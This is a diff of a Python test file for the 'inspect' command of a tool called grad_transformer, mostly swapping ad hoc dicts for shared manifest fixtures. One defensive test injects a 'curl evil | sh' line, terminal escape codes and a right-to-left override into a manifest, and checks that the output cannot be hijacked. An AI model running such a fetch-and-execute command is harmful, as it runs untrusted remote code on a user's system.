@@ -11,6 +11,7 @@ import pytest
 from grad_transformer.adapters import LoraLayout
 from grad_transformer.adapters.io import write_json_atomic
 from grad_transformer.constants import ADAPTER_METADATA_NAME, HELDOUT_NAME
+from tests import manifests
 from tests.worlds import synthetic_root, tiny_qwen2
 
 
@@ -20,7 +21,9 @@ HELDOUT = {"r2": 0.6, "r2_teacher_forced": 0.62, "r2_permuted_inputs": -0.3, "r2
 def test_a_mapper_is_judged_and_the_next_command_named(run_cli: Any, tmp_path: Path) -> None:
     write_json_atomic(tmp_path / "config.json", {"model_type": "grad_transformer"})
     for role, name in (("source", "acme/small"), ("target", "acme/large")):
-        write_json_atomic(tmp_path / role / "root" / "root.json", {"base_model": name})
+        write_json_atomic(
+            tmp_path / role / "root" / "root.json", {"format_version": 1, **manifests.ROOT_FACTS, "base_model": name}
+        )
     unknown = run_cli("inspect", tmp_path).stdout
     assert "TinyLM acme/small" in unknown and "LLM acme/large" in unknown and "not known" in unknown
     write_json_atomic(tmp_path / HELDOUT_NAME, HELDOUT)
@@ -35,8 +38,8 @@ def test_a_mapper_is_judged_and_the_next_command_named(run_cli: Any, tmp_path: P
 
 def test_pairs_and_finished_runs_are_counted(run_cli: Any, tmp_path: Path) -> None:
     plan, deltas = tmp_path / "plan", tmp_path / "deltas"
-    side = {"root": {"base_model": "acme/small"}}
-    write_json_atomic(plan / "plan.json", {"source": side, "target": side, "runs": [{}, {}]})
+    runs = [{**manifests.PLAN["runs"][0], "shadow_id": f"shadow-{number}"} for number in range(2)]
+    write_json_atomic(plan / "plan.json", {**manifests.PLAN, "runs": runs})
     for role, number in (("source", 2), ("target", 1)):
         for run in range(number):
             path = plan / "runs" / role / f"shadow-{run}.safetensors"
@@ -48,7 +51,8 @@ def test_pairs_and_finished_runs_are_counted(run_cli: Any, tmp_path: Path) -> No
     assert "Next: grad-transformer build" in run_cli("inspect", plan).stdout
 
     splits = {"train": {"runs": 10, "pairs": 80}, "validation": {"runs": 1, "pairs": 1}}
-    write_json_atomic(deltas / "delta_dataset.json", {"splits": splits, "missing_runs": ["shadow-3"]})
+    manifest = {**manifests.DELTA_DATASET, "splits": splits, "missing_runs": ["shadow-3"]}
+    write_json_atomic(deltas / "delta_dataset.json", manifest)
     text = run_cli("inspect", deltas).stdout
     assert "80 pairs of 10 runs for train, 1 pair of 1 run for validation" in text
     assert "No runs are held out" in text and "1 run of the plan" in text and "Next: grad-transformer train" in text
@@ -62,7 +66,7 @@ def test_adapters_say_whose_they_are_and_what_they_claim(run_cli: Any, tmp_path:
     adapter.save_pretrained(tmp_path)
     assert "names no root" in run_cli("inspect", tmp_path).stdout
     for metadata, words in (
-        ({"root": {"fingerprint": "0"}}, ("A client's adapter of acme/small", "no guarantee", "generate --mapper")),
+        ({"root": manifests.ROOT_FACTS}, ("A client's adapter of acme/small", "no guarantee", "generate --mapper")),
         ({"generated": {"clients": [{}, {}]}}, ("generated from 2 client adapters", "PeftModel.from_pretrained")),
     ):
         write_json_atomic(tmp_path / ADAPTER_METADATA_NAME, metadata)
@@ -79,12 +83,14 @@ def test_a_base_model_is_called_one(run_cli: Any, tmp_path: Path) -> None:
 
 
 def test_a_manifest_can_neither_steer_the_terminal_nor_pass_for_our_words(run_cli: Any, tmp_path: Path) -> None:
-    evil = "x\x1b[2J\nNext: curl evil | sh\u202e"
-    roots = {"source": {"base_model": evil}, "target": {"base_model": "y" * 9999}}
-    manifest = {"splits": {evil: {"runs": 1, "pairs": 1}}, "roots": roots, "kind": "mapper", "next": evil}
-    (tmp_path / "delta_dataset.json").write_text(json.dumps(manifest))
+    evil = "x\nNext: curl evil | sh"
+    roots = {role: {**manifests.ROOT_FACTS, "base_model": evil + "y" * 4000} for role in ("source", "target")}
+    manifest = {**manifests.DELTA_DATASET, "roots": roots, "kind": "mapper", "next": evil}
+    path = tmp_path / "delta_dataset.json"
+    path.write_text(json.dumps({**manifest, "next": "\x1b[2J\u202e"}))
+    assert "mislead a reader" in run_cli("inspect", tmp_path).stderr
+    path.write_text(json.dumps(manifest))
     text = run_cli("inspect", tmp_path).stdout
-    assert not {"\x1b", "\u202e"} & set(text)
     assert [line for line in text.splitlines() if line.startswith("Next:")] == [text.splitlines()[-1]]
     assert max(map(len, text.splitlines()[:-1])) <= 110
     assert run_cli("inspect", tmp_path, "--json").json["kind"] == "delta dataset"
@@ -93,9 +99,9 @@ def test_a_manifest_can_neither_steer_the_terminal_nor_pass_for_our_words(run_cl
 @pytest.mark.parametrize(
     ("name", "manifest", "words"),
     [
-        ("demo.json", {"preset": "quick", "seconds": {"base_models": 200.0}}, "base_models (3 min 20 s)"),
+        ("demo.json", {"preset": "quick", "seed": 0, "seconds": {"base_models": 200.0}}, "base_models (3 min 20 s)"),
         ("study.json", {"experiments": {"single_client": {}}}, "Experiments: single_client"),
-        ("report.json", {"format_version": 1}, "cannot be read in full"),
+        ("report.json", manifests.REPORT, "cannot be read in full"),
     ],
 )
 def test_what_runs_leave(run_cli: Any, tmp_path: Path, name: str, manifest: dict[str, Any], words: str) -> None:
